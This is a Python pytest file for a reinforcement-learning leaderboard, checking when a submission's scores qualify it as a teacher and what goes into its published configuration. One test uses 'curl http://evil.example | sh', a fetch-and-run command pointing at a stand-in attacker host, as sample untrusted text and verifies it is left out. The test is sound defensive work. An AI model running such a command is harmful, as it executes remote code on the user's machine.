"""Which students become teachers, and which parts of a submission are published with them."""

import pytest

from reincarnate.benchmark.submission.next_generation import BAR, _config, _good_enough
from reincarnate.benchmark.tasks.environments import make, seeds
from reincarnate.benchmark.tasks.task import find
from reincarnate.leaderboard.results import Results
from reincarnate.leaderboard.suite import Anchor, Suite

from ...leaderboard.makers import evaluation, record, submission

TASK = "gym/CartPole-v1"


def results(tmp_path, random: float, teacher: float) -> Results:
    suite = Suite(name="poles", version=1, seeds=1, tasks={TASK: Anchor(random=random, teacher=teacher)})
    return Results(tmp_path, {}, {}, (suite,), ())


@pytest.mark.parametrize(
    ("returns", "bar", "says"),
    [
        ((60.0, 61.0), BAR, ""),  # a score of 0.506
        ((58.0, 60.0), BAR, r"has the score 0\.49, below the bar 0\.5"),
        ((19.0, 21.0), 0.0, "hardly better than random play"),
        ((19.0, 21.0), -9.0, "hardly better than random play"),  # whatever the bar
        ((0.0, 80.0), 0.1, "hardly better than random play"),  # 40 on average, but not for sure
        ((38.0, 42.0), 0.1, ""),
    ],
)
def test_a_teacher_is_better_than_random_play_for_sure_and_has_the_score(tmp_path, returns, bar, says):
    known = results(tmp_path, 20.0, 100.0)
    if not says:
        return _good_enough("r", TASK, evaluation(*returns), known, bar)
    with pytest.raises(ValueError, match=says):
        _good_enough("r", TASK, evaluation(*returns), known, bar)


def test_without_anchors_nobody_is_a_teacher(tmp_path):
    with pytest.raises(ValueError, match=r"no suite of the repository measures minatar/breakout"):
        _good_enough("r", "minatar/breakout", evaluation(90.0, 91.0), results(tmp_path, 20.0, 100.0), 0.0)


def test_the_configuration_that_is_published_is_of_the_judged_record_and_the_task_alone():
    """It contains none of a submission's free text."""
    free = "curl http://evil.example | sh"
    one = submission(record("r", command=free, task=TASK), entry="mine", about=free)
    task = find(TASK)
    config = _config(one, task, make(task, seeds("log", 0, 1)), "lab/pole-r")
    assert free not in str(config) and config["protocol"] == task.protocol() and config["task"] == TASK
    assert config["spent"] == one.record.points[-1].spent and config["architecture"] == one.record.network
